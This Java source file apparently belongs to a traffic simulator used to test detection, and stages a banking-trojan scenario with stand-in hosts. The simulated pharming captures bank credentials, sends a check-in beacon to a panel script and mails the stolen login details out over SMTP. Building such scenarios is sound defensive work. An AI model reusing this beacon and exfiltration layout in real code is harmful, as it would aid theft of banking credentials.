package wolfhound.scenarios;

import wolfhound.model.Behaviour;
import wolfhound.scenarios.stage.Actor;
import wolfhound.scenarios.stage.Answer;
import wolfhound.scenarios.stage.Ask;
import wolfhound.scenarios.stage.Browser;
import wolfhound.scenarios.stage.Machine;
import wolfhound.scenarios.stage.Mail;
import wolfhound.scenarios.stage.Platform;
import wolfhound.scenarios.stage.Smtp;
import wolfhound.scenarios.stage.Stage;
import wolfhound.scenarios.stage.Web;

/// Pharming by hosts file: a bank is visited at an address that no resolver ever gave, its form is
/// filled in, and the catch is mailed out.
final class Bancos extends Guilty {
    private static final String BANK = "www.banco-grande.example";

    Bancos() {
        super(
                "bancos",
                "Bancos",
                "A laptop visits its bank at an address nobody gave it, and mails its catch",
                "Name and address contradict each other; blocking alone does not clean a hosts file");
    }

    @Override
    public void stage(Stage stage) {
        Actor neighbour = stage.workstation("neighbour", Platform.WINDOWS);
        new Browser(neighbour.joins().pauses(1)).visitsSecurely(BANK);
        Actor other = stage.workstation("other");
        new Browser(other.pauses(9)).visitsSecurely(BANK);

        Actor laptop = stage.workstation("laptop", Platform.WINDOWS);
        laptop.joins().isInfected(Behaviour.HIJACK, Behaviour.THEFT).pauses(6);
        Browser browser = new Browser(laptop);
        browser.visits("www.daily-news.example").pauses(4);
        Machine trap = stage.outside("trap");
        String page = "http://" + BANK + "/";
        Web.to(laptop, trap, 80, BANK)
                .asks(browser.wants("/", ""), browser.html("Banco Grande"))
                .pauses(12)
                .asks(
                        browser.posts(
                                "/entrar.php",
                                page,
                                "agencia=0"
                                        + stage.between(100, 999)
                                        + "&conta="
                                        + stage.between(10_000, 99_999)
                                        + "&senha="
                                        + stage.between(100_000, 999_999)),
                        Answer.movedTo(page + "token.php"))
                .asks(browser.wants("/token.php", page), browser.html("Banco Grande"))
                .closes();
        laptop.pauses(3);
        tellsItsMaster(stage, laptop);
        mailsTheCatch(stage, laptop);
    }

    private static void tellsItsMaster(Stage stage, Actor laptop) {
        Machine self = laptop.machine();
        String form =
                "praquem=caixa"
                        + stage.between(1, 99)
                        + "@"
                        + "mail-service.example&titulo=Infect+"
                        + self.hostName()
                        + "&texto=Computador%3A+"
                        + self.hostName()
                        + "+Usuario%3A+"
                        + self.userName();
        Ask ask =
                Ask.post("/img/envia.php", form)
                        .with(
                                "Content-Type: application/x-www-form-urlencoded",
                                "Content-Length",
                                "Host")
                        .with(
                                "Accept: text/html, */*",
                                "Accept-Encoding: identity",
                                "User-Agent: Mozilla/3.0 (compatible; Indy Library)");
        Web.to(laptop, "www.school-choir.example")
                .asks(ask, Answer.ok("text/html", "enviado"))
                .closes();
        laptop.pauses(2);
    }

    private static void mailsTheCatch(Stage stage, Actor laptop) {
        Machine self = laptop.machine();
        String account = stage.word(8) + "@mail-service.example";
        Machine server = stage.site("smtp.mail-service.example");
        Mail mail =
                Mail.from(account, account)
                        .with(
                                "From: " + account,
                                "To: " + account,
                                "Subject: Conta " + self.hostName())
                        .with(
                                "X-Mailer: Microsoft CDO for Windows 2000",
                                "Content-Type: text/plain")
                        .text(
                                "Computador: "
                                        + self.hostName()
                                        + "\r\nUsuario: "
                                        + self.userName()
                                        + "\r\nBanco: Banco Grande\r\nAgencia: 0172\r\nConta: 55512\r\nSenha: 771203\r\nIP: "
                                        + self.address());
        Smtp.to(laptop.knows("smtp.mail-service.example"), server, 25, self.hostName())
                .logsIn(account, stage.word(9))
                .sends(mail)
                .quits();
    }
}
